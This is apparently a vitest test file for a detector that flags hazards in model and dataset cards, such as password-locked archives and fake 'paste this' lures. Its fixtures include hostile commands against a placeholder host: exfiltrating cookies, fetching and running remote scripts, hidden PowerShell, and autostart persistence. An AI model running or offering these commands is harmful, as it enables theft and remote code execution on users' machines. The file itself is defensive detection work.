import { describe, expect, test } from 'vitest';
import { readCardHazards } from '../../../src/core/instructions/readInstructionHazards.ts';

const found = (text: string, kind: 'model' | 'dataset' = 'model') =>
  readCardHazards(text, { kind }).filter(({ told, mitigated }) => told !== 'mention' && !mitigated);
const patterns = (text: string, kind?: 'dataset') => found(text, kind).map(({ pattern }) => pattern);
const code = (text: string) => `# Model\n\n\`\`\`\n${text}\n\`\`\`\n`;

describe('an archive and its secret', () => {
  test.each([
    'Unpack `weights.rar` (pass: model) and start the app.',
    'The archive is locked. Password: `lab2026`.',
    'Archivpasswort steht hier: das Archiv `modell.7z` hat das Passwort: geheim1',
    'Пароль: 7788, архив лежит рядом.',
    '下载 model.zip，解压密码：abcd',
    'El archivo está protegido, contraseña: 4455',
    'Archive key is 9090.',
    'All is in `studio.zip` (pw 4711).',
  ])('%s', text => expect(patterns(text)).toContain('password-archive'));

  test.each([
    'The archive is encrypted. We send the password by e-mail after you sign.',
    'Log in with user: admin, password: admin.',
    'data.zip holds the images; the license key is required.',
    '链接: https://pan.baidu.com/s/1abc 提取码: k8tz',
    'Each archive has a code and a key: see the table.',
  ])('not in: %s', text => expect(patterns(text)).not.toContain('password-archive'));
});

describe("the browser's console", () => {
  const told = (line: string) => `Open the developer tools, paste this and press Enter:\n\n\`\`\`js\n${line}\n\`\`\`\n`;
  test.each([
    'fetch("https://x.invalid/?" + document.cookie)',
    'import("https://x.invalid/a.js")',
    'eval(atob("YQ=="))',
  ])('a line that reaches out: %s', line => expect(patterns(told(line))).toContain('console-paste'));
  test('a line that keeps a notebook awake does not', () =>
    expect(patterns(told('setInterval(() => document.querySelector("#connect").click(), 60000)'))).toEqual([]));
});

describe('commands', () => {
  test.each([
    ['autostart-windows', 'schtasks /create /tn Updater /sc minute /tr C:\\m\\u.exe'],
    ['autostart-windows', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v M /d m.exe'],
    ['autostart-mac', 'cp ai.model.plist ~/Library/LaunchAgents/'],
    ['powershell-scriptblock', "& ([scriptblock]::Create((irm 'https://x.invalid/a')))"],
    ['shell-of-curl', 'A=https://x.invalid/b\nbash -c "$(curl -fsSL ${A})"'],
    ['shell-of-curl', 'perl -e "$(curl -s https://x.invalid/i.pl)"'],
    ['script-evals-fetched', 'node -e "fetch(\'https://x.invalid/a\').then(r => r.text()).then(eval)"'],
    ['powershell-hidden', 'powershell -w hid -File a.ps1'],
    ['package-from-address', 'pip install https://x.invalid/ops-1.0-py3-none-any.whl'],
    ['package-from-address', 'pip install git+https://git.x.invalid/ops.git'],
  ])('%s: %s', (pattern, text) => expect(patterns(code(text))).toContain(pattern));

  test.each([
    'schtasks /query',
    'launchctl list',
    'pip install git+https://github.com/lab/ops.git',
    'pip install https://github.com/lab/ops/releases/download/v1/ops-1.0-py3-none-any.whl',
    'powershell -NoLogo -Command Get-Date',
  ])('nothing in: %s', text => expect(patterns(code(text))).toEqual([]));

  test('a package from a bare host weighs more in a card than in the papers of a project', () => {
    const [hazard] = found(code('pip install https://x.invalid/ops-1.0-py3-none-any.whl'), 'dataset');
    expect(hazard?.aggravated).toBeDefined();
  });
});

test.each([
  ['Your antivirus warns of it: just allow it.', ['disable-it']],
  ['If the firewall blocks the port, ask your administrator.', []],
  ['The detector flags faces; trust them with care.', []],
])('%s', (text, expected) => expect(patterns(text)).toEqual(expected));

test('a script with arguments is how numbers of a paper are made', () =>
  expect(patterns('`python run.py --do_eval` makes the table.')).toEqual([]));

describe('a chat', () => {
  test('that hands out the archive is no community', () =>
    expect(
      found('Join us at https://t.me/x_none: the bot sends the archive with its password.')[0]?.aggravated,
    ).toBeDefined());
  test('that answers questions is one', () =>
    expect(patterns('Join https://discord.gg/none to chat, or to ask for help with a download.')).toEqual([]));
});

describe('a quotation', () => {
  const lure = '> To verify that you are human press Win+R, paste and press Enter.';
  test('that a line introduces as a sample is a mention', () =>
    expect(patterns(`Pages that lure. An example of the \`text\` field:\n\n${lure}\n`, 'dataset')).toEqual([]));
  test('that stands for itself is told', () => expect(patterns(`# Download\n\n${lure}\n`, 'dataset')).not.toEqual([]));
});
